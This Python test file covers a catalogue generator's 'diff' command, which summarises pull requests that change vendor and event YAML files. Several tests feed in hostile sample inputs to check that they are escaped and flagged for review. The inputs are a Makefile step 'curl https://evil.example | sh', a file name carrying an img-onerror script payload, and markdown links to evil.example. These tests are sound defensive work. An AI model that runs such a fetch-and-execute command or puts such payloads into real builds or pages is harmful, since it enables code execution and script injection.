"""`diff REF`: the reviewer's summary of a pull request, from a real git history."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from conftest import FIXTURE
from test_cli import run

EXPECTED = Path(__file__).parent / "cases" / "diff"


def git(*args: str, cwd: Path) -> None:
    subprocess.run(
        ["git", "-c", "user.email=uji@example.org", "-c", "user.name=Uji", *args],
        cwd=cwd,
        check=True,
        capture_output=True,
    )


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    shutil.copytree(FIXTURE, tmp_path / "content")
    git("init", "-q", cwd=tmp_path)
    git("add", "-A", cwd=tmp_path)
    git("commit", "-qm", "katalog awal", cwd=tmp_path)
    return tmp_path


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text("utf-8")
    assert old in text
    path.write_text(text.replace(old, new), "utf-8")


def test_summary_of_a_pull_request(repo: Path, update_golden: bool) -> None:
    vendors, events = repo / "content" / "vendors", repo / "content" / "events"
    edit(vendors / "amplang-uji.yml", "price: 35000", "price: 38000")
    edit(vendors / "amplang-uji.yml", "    available: false\n", "")
    edit(vendors / "amplang-uji.yml", "owner: Ibu Uji", "owner: Ibu Uji Baru")
    with (vendors / "amplang-uji.yml").open("a") as f:
        f.write("  - name: Amplang pedas\n    price: 37000\n    unit: bungkus 250 g\n")
    (vendors / "kue-tanpa-rt.yml").unlink()
    (vendors / "toko-baru.yml").write_text(
        "name: Toko Baru\ncategory: makanan\nproducts:\n  - name: Kue\n    price: 1000\n"
    )
    edit(
        events / "bazar-uji.yml",
        "  - stall: B1\n    vendor: kue-tanpa-rt\n",
        "  - stall: B2\n    vendor: kebun-uji\n",
    )
    edit(events / "bazar-uji.yml", "[null, B1]", "[null, B2]")  # the plan follows
    edit(
        events / "bazar-uji.yml",
        "  - stall: A2\n    vendor: kebun-uji",
        "  - stall: A2\n    vendor: toko-baru",
    )
    (events / "bazar-depan.yml").unlink()
    for lang, name in (("id", "expected.md"), ("en", "expected.en.md")):
        result = run("--lang", lang, "diff", "HEAD", cwd=repo)
        assert result.returncode == 0, result.stderr
        if update_golden:
            (EXPECTED / name).write_text(result.stdout, "utf-8")
        assert result.stdout == (EXPECTED / name).read_text("utf-8")


def test_no_change_and_unknown_revision(repo: Path) -> None:
    same = run("diff", "HEAD", cwd=repo)
    assert same.stdout == "## Perubahan katalog\n\nTidak ada perubahan isi katalog.\n\n"
    unknown = run("diff", "cabang-hilang", cwd=repo)
    assert unknown.returncode == 1
    assert unknown.stderr == "galat: cabang-hilang tidak bisa dibaca dari git (unknown revision)\n"


def test_a_broken_base_counts_everything_as_new(repo: Path) -> None:
    (repo / "content" / "vendors" / "kebun-uji.yml").write_text("name: [\n", "utf-8")
    git("commit", "-qam", "rusak", cwd=repo)
    (repo / "content" / "vendors" / "kebun-uji.yml").write_text(
        (FIXTURE / "vendors" / "kebun-uji.yml").read_text("utf-8"), "utf-8"
    )
    result = run("diff", "HEAD", cwd=repo)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(
        "> Katalog di HEAD tidak lolos pemeriksaan; semua isi "
        "dianggap baru.\n\n## Perubahan katalog\n\n### Usaha baru\n"
    )


def test_summary_shows_pull_request_text_only_as_text(repo: Path) -> None:
    """The summary is rendered on GitHub: a unit or name must not become a link or image."""
    import markdown

    with (repo / "content" / "vendors" / "kebun-uji.yml").open("a") as f:
        f.write(
            '  - name: "Kue [menang](https://evil.example) <b>x</b>"\n    price: 1000\n'
            '    unit: "potong ![x](https://evil.example/t.png) <details><summary>x"\n'
            "  - name: Cabai rawit\n    price: 9000\n"
        )
    result = run("diff", "HEAD", cwd=repo)
    assert result.returncode == 0, result.stderr
    html = markdown.markdown(result.stdout)
    for tag in ("<a ", "<img", "<details", "<b>"):
        assert tag not in html
    # A second product with the same name is new, not a price change of the first.
    assert "produk baru `Cabai rawit (2)`: Rp9.000" in result.stdout
    assert "harga `Cabai rawit`" not in result.stdout


def test_files_outside_content_come_first_in_bold(repo: Path) -> None:
    """Reviewers read the summary; a pull request that also changes the generator, the
    workflows or the Makefile must say so at the top, however little content it changes."""
    import markdown

    (repo / "Makefile").write_text("site:\n\ttrue\n", "utf-8")
    git("add", "Makefile", cwd=repo)
    git("commit", "-qm", "Makefile", cwd=repo)
    (repo / "Makefile").write_text("site:\n\tcurl https://evil.example | sh\n", "utf-8")
    (repo / ".cache" / "photos").mkdir(parents=True)
    (repo / ".cache" / "photos" / "meta.json").write_text("{}", "utf-8")
    git("add", "-f", ".cache", cwd=repo)  # force-added, as in a hostile pull request
    (repo / "generator").mkdir()
    (repo / "generator" / "<img src=x onerror=alert(1)>.py").write_text("", "utf-8")
    edit(repo / "content" / "vendors" / "amplang-uji.yml", "price: 35000", "price: 38000")
    for lang, first, advice in (
        ("id", "berkas di luar `content/`", "periksa sebagai kode"),
        ("en", "files outside `content/`", "review them as code"),
    ):
        result = run("--lang", lang, "diff", "HEAD", cwd=repo)
        assert result.returncode == 0, result.stderr
        head = result.stdout.split("\n### ")[0]  # before the first catalogue section
        assert first in head and advice in head
        html = markdown.markdown(result.stdout)
        for path in (".cache/photos/meta.json", "Makefile"):
            assert f"<strong><code>{path}</code></strong>" in html
        assert "<strong><code>generator/&lt;img src=x onerror=alert(1)&gt;.py</code>" in html
        assert "<img" not in html
        assert "amplang-uji" not in head  # content files are not listed as code
        assert "Rp35.000 → Rp38.000" in result.stdout  # and the catalogue summary follows


def test_files_outside_content_are_named_even_when_the_content_is_broken(repo: Path) -> None:
    """A pull request that breaks a vendor file and changes the Makefile: the summary can't
    describe the catalogue, but still says which files to read as code."""
    (repo / "Makefile").write_text("site:\n\tcurl https://evil.example | sh\n", "utf-8")
    edit(repo / "content" / "vendors" / "amplang-uji.yml", "price: 35000", "price: 35rb")
    result = run("diff", "HEAD", cwd=repo)
    assert result.returncode == 1
    assert "**`Makefile`**" in result.stdout and "periksa sebagai kode" in result.stdout
    assert "amplang-uji.yml" in result.stderr and "35rb" not in result.stdout
